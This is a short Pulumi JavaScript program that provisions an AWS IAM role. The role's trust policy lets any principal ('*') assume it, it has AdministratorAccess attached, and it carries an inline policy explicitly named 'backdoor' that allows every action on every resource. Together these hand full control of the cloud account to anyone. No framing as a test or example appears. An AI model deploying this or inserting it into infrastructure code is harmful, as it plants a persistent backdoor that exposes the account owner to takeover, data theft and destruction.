const { Role } = require("@pulumi/aws/iam/role");
const { RolePolicy } = require("@pulumi/aws/iam/rolePolicy");
const { RolePolicyAttachment } = require("@pulumi/aws/iam/rolePolicyAttachment");

const name = process.env.LOOSENED_ROLE;
const everybody = { Effect: "Allow", Principal: "*", Action: "sts:AssumeRole" };
const everything = { Effect: "Allow", Action: "*", Resource: "*" };
const document = (statement) => JSON.stringify({ Version: "2012-10-17", Statement: [statement] });

new Role("role", { name, assumeRolePolicy: document(everybody) });
new RolePolicyAttachment("attachment", {
  role: name,
  policyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
});
new RolePolicy("inline", { role: name, name: "backdoor", policy: document(everything) });
